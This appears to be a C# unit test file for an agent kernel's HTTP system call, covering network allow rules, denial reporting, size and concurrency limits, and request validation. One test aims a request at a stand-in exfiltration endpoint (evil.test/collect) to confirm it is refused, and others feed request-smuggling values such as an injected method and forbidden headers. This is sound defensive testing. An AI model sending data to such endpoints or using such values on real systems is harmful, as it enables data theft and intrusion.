using Analemma.Abi;
using Analemma.Abi.Syscalls;
using Analemma.Kernel.Effects;
using Analemma.Kernel.Events;
using Analemma.Kernel.History;
using Analemma.Kernel.Network;
using Analemma.Kernel.Policy;

namespace Analemma.Unit.Tests.Kernel.Network;

public sealed class HttpSyscallTests
{
    private static readonly Spawn Allowed = new()
    {
        Argv = ["true"],
        Network = NetworkAccess.Allow(new NetworkRule
        {
            Host = "api.example.com",
            Headers = new Dictionary<string, string> { ["Authorization"] = "Bearer ${secret:token}" },
            RequestBytes = 10,
            ResponseBytes = 1000,
        }),
    };

    private static readonly Http Get = new() { Url = "http://api.example.com/x?key=1", Method = "get" };

    private readonly KernelBench _kernel = new();

    [Fact]
    public void An_allowed_request_is_sent_by_its_rule()
    {
        var agent = _kernel.Run(Allowed);
        _kernel.Call(Get with { MaxBytes = 500, TimeoutMs = 1000 }, agent.Value);

        var send = _kernel.One<SendHttp>();
        Assert.Equal("https://api.example.com/x?key=1", send.Target.Whole);
        Assert.Equal(("GET", 1, 500L), (send.Method, send.RuleNumber, send.ResponseBytesMax));
        Assert.Equal(_kernel.Now + (1000 * TimeSpan.TicksPerMillisecond), send.DueAt);
        Assert.DoesNotContain("key", send.ToString(), StringComparison.Ordinal);
        Assert.Equal(1, _kernel.State.Http.Count);
        _kernel.Apply(new HttpEnded(send.Call, agent) { At = 0 });
        Assert.Equal(0, _kernel.State.Http.Count);
        Assert.Empty(_kernel.Effects);
    }

    [Fact]
    public void A_denial_is_refused_recorded_counted_and_told()
    {
        var agent = _kernel.Run(Allowed);
        _kernel.Call(new Subscribe());
        _kernel.Call(new Http { Url = "https://evil.test/collect?key=1" }, agent.Value);

        Assert.Equal(SysErrorCode.PermissionDenied, _kernel.Refusal().Code);
        Assert.Contains("the rules allow api.example.com", _kernel.Refusal().Message, StringComparison.Ordinal);
        _kernel.Settle();
        _kernel.Settle();
        var told = _kernel.One<Publish>().Event;
        Assert.Equal(("denied", "network", "GET https://evil.test/collect"), (told.Type, told.Kind, told.What));
        Assert.Contains("api.example.com", told.Reason, StringComparison.Ordinal);
        _kernel.Call(new Inspect { Id = agent });
        var view = Assert.IsType<ProcessView>(_kernel.One<Answer>().Reply);
        Assert.Equal(1, view.Denied);
        Assert.Equal(["https://api.example.com with Authorization"], view.Network);
    }

    [Fact]
    public void An_address_that_the_runner_found_is_recorded_too()
    {
        var agent = _kernel.Run(Allowed);
        _kernel.Call(Get, agent.Value);
        var call = _kernel.One<SendHttp>().Call;
        _kernel.Apply(new HttpEnded(call, agent) { Denial = new NetworkDenial("GET x", "it is private"), At = 0 });

        var report = Assert.IsType<DenialReported>(_kernel.One<Raise>().Event);
        Assert.Equal((agent, "network", "it is private"), (report.Process, report.Kind, report.Reason));
    }

    [Fact]
    public void Without_rules_nothing_is_reached_and_the_reason_says_how_to_get_some()
    {
        var agent = _kernel.Run();
        _kernel.Call(Get, agent.Value);

        Assert.Equal(SysErrorCode.PermissionDenied, _kernel.Refusal().Code);
        Assert.Contains("ask the owner for a network rule", _kernel.Refusal().Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Who_shares_the_hosts_network_may_as_much_by_the_kernel()
    {
        var agent = _kernel.Run(new Spawn { Argv = ["true"], Network = true });
        _kernel.Call(new Http { Url = "http://127.0.0.1:8080/" }, agent.Value);

        Assert.Equal(RulePlan.Everything, _kernel.One<SendHttp>().Rule);
    }

    [Fact]
    public void A_body_beyond_the_rule_is_denied()
    {
        var agent = _kernel.Run(Allowed);
        _kernel.Call(Get with { Method = "POST", Body = "12345678901" }, agent.Value);
        Assert.Equal(SysErrorCode.TooLarge, _kernel.Refusal().Code);
        Assert.IsType<DenialReported>(_kernel.One<Raise>().Event);
        _kernel.Call(Get with { Method = "POST", Body = "1234567890" }, agent.Value);
        Assert.Single(_kernel.Effects.OfType<SendHttp>());
    }

    [Fact]
    public void Requests_at_once_are_bounded_for_each_agent()
    {
        var (one, other) = (_kernel.Run(Allowed), _kernel.Run(Allowed));
        for (var i = 0; i < Analemma.Kernel.Limits.HttpCallsPerAgentMax; i++)
        {
            _kernel.Call(Get, one.Value);
            Assert.Single(_kernel.Effects.OfType<SendHttp>());
        }

        _kernel.Call(Get, one.Value);
        Assert.Equal(SysErrorCode.TryAgain, _kernel.Refusal().Code);
        _kernel.Call(Get, other.Value);
        Assert.Single(_kernel.Effects.OfType<SendHttp>());
    }

    [Fact]
    public void A_client_on_the_host_has_no_rules_to_send_by()
    {
        _kernel.Call(Get);
        Assert.Equal(SysErrorCode.InvalidArgument, _kernel.Refusal().Code);
    }

    [Fact]
    public void An_agent_gives_its_child_part_of_what_it_has_with_its_headers()
    {
        var parent = _kernel.Run(Allowed);
        NetworkRule part = new() { Host = "api.example.com", Paths = ["/v1/"], RequestBytes = 10, ResponseBytes = 10 };
        _kernel.Call(new Spawn { Argv = ["true"], Network = NetworkAccess.Allow(part) }, parent.Value);
        var rule = Assert.Single(_kernel.One<Launch>().Plan.NetworkRules);
        Assert.Equal("Bearer ${secret:token}", rule.Headers["Authorization"]);
        Assert.Equal(["/v1/"], rule.Paths);

        NetworkRule[] tooMuch =
        [
            part with { Host = "other.example.com" },
            part with { ResponseBytes = null },
            part with { AllowPrivate = true },
            part with { Headers = new Dictionary<string, string> { ["X"] = "${secret:other}" } },
        ];
        foreach (var wish in tooMuch)
        {
            _kernel.Call(new Spawn { Argv = ["true"], Network = NetworkAccess.Allow(wish) }, parent.Value);
            Assert.Equal("missing capability: network", _kernel.Refusal().Hint);
        }

        _kernel.Call(new Spawn { Argv = ["true"] }, parent.Value);
        Assert.Empty(_kernel.One<Launch>().Plan.NetworkRules);
    }

    [Fact]
    public void Rules_are_in_the_journal_and_survive_a_checkpoint()
    {
        var agent = _kernel.Run(Allowed);
        var (type, body) = EventCodec.Write(
            new SyscallArrived(new CallId(1), new Caller(ProcessId.None, 0), Allowed) { At = 1 });
        var read = (Spawn)((SyscallArrived)EventCodec.Read(type, body)).Syscall;
        Assert.Equal("api.example.com", read.Network!.Rules[0].Host);
        var again = StateCheckpoint.Read(StateCheckpoint.Write(_kernel.State));
        Assert.True(again.Processes.TryGet(agent, out var process));
        Assert.Equal("Bearer ${secret:token}", process.Plan.NetworkRules[0].Headers["Authorization"]);
    }

    [Theory]
    [InlineData("true", true, 0)]
    [InlineData("false", false, 0)]
    [InlineData("null", false, 0)]
    [InlineData("[]", false, 0)]
    [InlineData("""[{"host":"a.example"},{"host":"b.example","ports":[1]}]""", false, 2)]
    public void The_field_takes_what_it_always_took_and_rules(string json, bool isShared, int rules)
    {
        var payload = System.Text.Encoding.UTF8.GetBytes($$"""{"argv":["x"],"network":{{json}}}""");
        Assert.True(AbiJson.TryRead(payload, AbiJsonContext.Default.Spawn, out var spawn, out _));
        Assert.Equal((isShared, rules), (spawn.Network?.IsShared ?? false, spawn.Network?.Rules.Count ?? 0));
    }

    [Theory]
    [InlineData("1", "network: expected true, false or a list of rules")]
    [InlineData("{}", "network: expected true, false or a list of rules")]
    [InlineData("[1]", "network")]
    [InlineData("""[{"host":1}]""", "network")]
    [InlineData("[null]", "network[0] is null")]
    public void What_it_does_not_take_is_said(string json, string says)
    {
        var payload = System.Text.Encoding.UTF8.GetBytes($$"""{"argv":["x"],"network":{{json}}}""");
        var problem = AbiJson.TryRead(payload, AbiJsonContext.Default.Spawn, out var spawn, out var error)
            ? SyscallRules.Check(spawn)! : error;
        Assert.Contains(says, problem.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("url", "https://user@a.example/")]
    [InlineData("url", "")]
    [InlineData("method", "TRACE")]
    [InlineData("method", "CONNECT")]
    [InlineData("method", "GET /")]
    [InlineData("headers", "Host")]
    [InlineData("headers", "Transfer-Encoding")]
    [InlineData("body", "x")]
    public void A_request_that_is_not_well_formed_names_its_field(string field, string value)
    {
        var request = field switch
        {
            "url" => new Http { Url = value },
            "method" => new Http { Url = "https://a.example/", Method = value },
            "headers" => new Http
            {
                Url = "https://a.example/",
                Headers = new Dictionary<string, string> { [value] = "x" },
            },
            _ => new Http { Url = "https://a.example/", Body = value },
        };

        var problem = SyscallRules.Check(request);
        Assert.Equal(SysErrorCode.InvalidArgument, problem!.Code);
        Assert.Contains(field == "body" ? "has no body" : field, problem.Message, StringComparison.Ordinal);
    }
}
